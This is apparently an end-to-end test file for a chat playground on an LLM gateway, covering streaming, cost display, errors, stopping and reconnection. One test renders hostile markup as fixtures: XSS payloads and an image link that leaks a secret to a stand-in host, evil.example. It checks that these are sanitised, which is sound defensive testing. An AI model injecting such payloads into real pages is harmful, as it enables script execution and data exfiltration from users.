import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runUntilSeen, stopClock } from '../support/clock.ts'
import { answers, ask, type PlaygroundSite, startPlaygroundSite } from '../support/playground.ts'

let at: PlaygroundSite
beforeAll(async () => {
  at = await startPlaygroundSite()
})
afterAll(() => at?.close())

interface Charged {
  readonly request_id: string
  readonly token_name: string
  readonly group: string
  readonly quota_exact: string
}
const charges = async () =>
  (await at.site.admin.call<{ items: Charged[] }>('GET', '/api/log/self?type=2&size=100')).items

/** Waits until all calls are charged. @returns the number of charged calls */
async function chargedSoFar(): Promise<number> {
  const held = async () =>
    (await at.site.admin.call<{ held_quota_exact: string }>('GET', '/api/user/self/balance')).held_quota_exact
  await expect.poll(held).toBe('0')
  return (await charges()).length
}

describe('an answer', () => {
  it('C-CHAT-01 C-CHAT-06 waits, grows, is complete, and says what it cost with the way to its row of the log', async () => {
    const { page, complaints, leave } = await at.open()
    const before = at.upstream.hits
    at.upstream.next({ text: 'one two three', holdAt: 'headers' })
    await ask(page, 'slow start')
    await answers(page, 'loading').getByText('Waiting for an answer').waitFor()
    const first = await at.upstream.received(before + 1)
    first.resume()
    await answers(page, 'complete').getByText('one two three').waitFor()

    at.upstream.next({ text: 'four five six', holdAt: 3 })
    await ask(page, 'slow end')
    await answers(page, 'incomplete').getByText('Answering').waitFor()
    const growing = (await answers(page, 'incomplete').textContent()) ?? ''
    expect([growing.includes('four'), growing.includes('six')]).toEqual([true, false])
    const second = await at.upstream.received(before + 2)
    second.resume()
    await answers(page, 'complete').getByText('four five six').waitFor()

    await expect
      .poll(async () => await page.getByText(/^\$0\.\d+, [\d,]+ tokens in, \d+ out/).count())
      .toBe(2)
    const [row] = await charges()
    expect([row?.token_name, row?.group]).toEqual(['playground-default', 'default'])
    const link = answers(page)
      .last()
      .getByRole('link', { name: /tokens in/ })
    expect(await link.getAttribute('href')).toBe(`/app/logs/api-usage?request_id=${row?.request_id}`)
    await link.click()
    await page.getByText('playground-default').first().waitFor()
    expect(await page.locator('tbody tr').count()).toBe(1)
    expect(complaints).toEqual([])
    await leave()
  })

  it('C-CHAT-06 that breaks off stays as far as it came, one that is refused says why, and both can be asked again', async () => {
    const { page, leave } = await at.open()
    at.upstream.next({ text: 'half of the truth', cutAfterEvents: 3, cut: 'reset' })
    await ask(page, 'breaks off')
    await answers(page, 'incomplete').getByText('Connection lost, the answer is incomplete').waitFor()
    expect(await answers(page).first().textContent()).toContain('half')
    at.upstream.next({ status: 400, error: { message: 'no such tune' } })
    await ask(page, 'is refused')
    await answers(page, 'error').getByText('no such tune').waitFor()
    await answers(page, 'error').getByText(/^req_/).waitFor()
    at.upstream.next({ text: 'the whole truth' })
    await answers(page, 'error').getByRole('button', { name: 'Regenerate' }).click()
    await answers(page, 'complete').getByText('the whole truth').waitFor()
    // A failed answer is not part of the conversation that the model receives.
    expect(at.sent().messages).toEqual([
      { role: 'user', content: 'breaks off' },
      { role: 'assistant', content: expect.stringContaining('half') as string },
      { role: 'user', content: 'is refused' },
    ])
    await leave()
  })

  it('can be stopped: what has come stays, and another question can be asked', async () => {
    const { page, leave } = await at.open()
    const before = at.upstream.hits
    at.upstream.next({ text: 'a very long answer indeed', holdAt: 3 })
    await ask(page, 'never mind')
    await answers(page, 'incomplete').getByText('Answering').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped; you are only charged for what was generated').first().waitFor()
    await page.getByRole('button', { name: 'Send' }).waitFor()
    expect(at.upstream.hits).toBe(before + 1)
    await leave()
  })

  it('is shown as markup that runs nothing, fetches nothing and leads where it says', async () => {
    const { page, complaints, leave } = await at.open()
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(at.site.url)) foreign.push(request.url())
    })
    at.upstream.next({
      text: [
        '# Title',
        '**bold** <b onclick="pwned=1">raw</b> <script>window.pwned = 2</script>',
        '<img src=x onerror="window.pwned = 3">',
        '![see](https://evil.example/leak.png?q=secret)',
        '[run](javascript:window.pwned=4) [go](https://example.com/a)',
        '<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe><style>body{display:none}</style>',
        '```html\n<script>window.pwned = 6</script>\n```',
        '| a | b |\n|---|---|\n| <svg onload=pwned=7> | 2 |',
        '<form action="https://evil.example"><input name=q></form>',
      ].join('\n\n'),
    })
    await ask(page, 'attack me')
    const answer = answers(page, 'complete')
    await answer.getByRole('heading', { name: 'Title' }).waitFor()
    await answer.getByRole('cell', { name: '<svg onload=pwned=7>' }).waitFor()
    await answer.getByText('<script>window.pwned = 6</script>', { exact: true }).waitFor()
    expect(await answer.locator('img, iframe, script, style, form, input, [onclick], [style]').count()).toBe(
      0,
    )
    for (const link of await answer.getByText(/^(run|see)$/).all())
      expect((await link.getAttribute('href')) ?? '').not.toContain('javascript')
    const good = answer.getByRole('link', { name: 'go' })
    expect([await good.getAttribute('href'), await good.getAttribute('rel')]).toEqual([
      'https://example.com/a',
      'noreferrer noopener nofollow',
    ])
    await answer.getByText('run', { exact: true }).click()
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect([foreign, complaints]).toEqual([[], []])
    await leave()
  })

  it('may be very long: every word of it is there, and the page stays with its end', async () => {
    const { page, leave } = await at.open()
    at.upstream.next({ textBytes: 200_000, chunks: 2000 })
    await ask(page, 'all of it')
    await answers(page, 'complete').waitFor({ timeout: 60_000 })
    expect((await answers(page).textContent())?.length).toBeGreaterThan(190_000)
    const below = () => page.evaluate(() => document.documentElement.scrollHeight - innerHeight - scrollY)
    await expect.poll(below).toBeLessThan(200)
    await page.evaluate(() => scrollTo(0, 0))
    await page.getByRole('button', { name: 'Jump to latest' }).click()
    await expect.poll(below).toBeLessThan(200)
    await leave()
  })
})

describe('a connection that breaks', () => {
  it('C-CHAT-05 before anything came is made again after 3 seconds, and the question is asked and paid once', async () => {
    const { page, leave } = await at.open()
    const [hits, paid] = [at.upstream.hits, await chargedSoFar()]
    const keys: (string | undefined)[] = []
    await stopClock(page)
    await page.route('**/pg/chat/completions', async (route) => {
      keys.push(route.request().headers()['idempotency-key'])
      if (keys.length === 1) await route.abort('connectionreset')
      else await route.continue()
    })
    at.upstream.next({ text: 'here it is' })
    await ask(page, 'through the storm')
    await runUntilSeen(page, page.getByText('Connection lost, reconnecting'))
    await page.clock.runFor(2800)
    expect(keys.length).toBe(1)
    await page.clock.runFor(300)
    await expect.poll(() => keys.length).toBe(2)
    await page.clock.resume()
    await answers(page, 'complete').getByText('here it is').waitFor()
    expect(keys[0]).toBe(keys[1])
    await expect.poll(async () => (await charges()).length).toBe(paid + 1)
    expect(at.upstream.hits).toBe(hits + 1)
    await leave()
  })

  it('C-CHAT-05 and took the answer with it: nothing is asked again, nothing is paid twice', async () => {
    const { page, leave } = await at.open()
    const [hits, paid] = [at.upstream.hits, await chargedSoFar()]
    await stopClock(page)
    let calls = 0
    await page.route('**/pg/chat/completions', async (route) => {
      calls += 1
      if (calls > 1) return route.continue()
      // The gateway answers, but the response is lost.
      await (await route.fetch()).body()
      await route.abort('connectionreset')
    })
    await ask(page, 'into the void')
    await runUntilSeen(page, page.getByText('Connection lost, reconnecting'))
    await page.clock.runFor(3100)
    await page.clock.resume()
    await page.getByText('Connection lost, the answer is incomplete').first().waitFor()
    expect([calls, at.upstream.hits]).toEqual([2, hits + 1])
    await expect.poll(async () => (await charges()).length).toBe(paid + 1)
    await leave()
  })
})
